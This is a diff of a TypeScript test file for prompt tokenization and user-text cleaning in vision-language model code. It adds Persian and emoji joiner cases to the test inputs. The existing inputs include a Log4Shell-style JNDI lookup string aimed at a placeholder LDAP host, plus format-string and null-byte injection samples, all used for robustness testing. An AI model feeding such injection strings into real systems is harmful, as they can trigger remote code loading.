@@ -11,7 +11,8 @@ import { tokenizerConfig, tokenizerJson } from "../../test/tiny-tokenizer.ts";
 import type { PromptForm } from "../families/family.ts";
 import { FASTVLM_PROMPT } from "../families/fastvlm/fastvlm.ts";
 import { SMOLVLM_PROMPT } from "../families/smolvlm/smolvlm.ts";
-import { cleanUserText, layOutPrompt, type Question } from "../generation/prompt.ts";
+import { cleanUserText } from "../generation/clean-user-text.ts";
+import { layOutPrompt, type Question } from "../generation/prompt.ts";
 import { createTextCodec } from "./tokenizer.ts";
 
 const { json: idefics3Json, config: idefics3Config } = idefics3Tokenizer;
@@ -27,6 +28,8 @@ const JOINERS = [
   ...["", " ", "\n", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD", "\u034F"],
   ...["\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2069", "\u061C"],
   ...["\u{E0001}", "\u{E0020}", "\u{E007F}", "\uE000", "\uE001", "\uE0000\uE001", "\0", "\u0085"],
+  // Joiners that stay, because writing needs them there.
+  ...["\u0645\u200C", "\u0645\u200D", "\u{1F469}\u200D\u{1F467}"],
 ];
 
 const PLAIN = [
@@ -39,6 +42,8 @@ const PLAIN = [
   "${jndi:ldap://a.example/x}",
   "%s%n %00 &lt;b&gt;",
   "What is on the left?",
+  "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645", // Persian: "I want"
+  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}", // a family
 ];
 
 describe.each(TOKENIZERS)("%s", (_, json, config, form) => {
